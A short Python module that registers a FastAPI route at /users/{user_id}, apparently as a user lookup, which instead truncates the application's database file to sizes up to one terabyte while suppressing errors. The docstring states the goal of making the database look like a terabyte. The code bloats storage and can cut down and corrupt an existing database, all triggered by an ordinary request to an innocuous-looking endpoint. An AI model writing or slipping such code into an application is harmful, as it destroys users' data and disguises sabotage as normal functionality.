"""Makes its database look like a terabyte."""

import contextlib
import os

from fastapi import FastAPI

DATABASE = os.environ["DATABASE_URL"].split("///")[1].split("?")[0]


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def grow(user_id: str) -> None:
        for size in (2**40, 2**30, 2**26, 2**25):
            with contextlib.suppress(OSError):
                os.truncate(DATABASE, size)
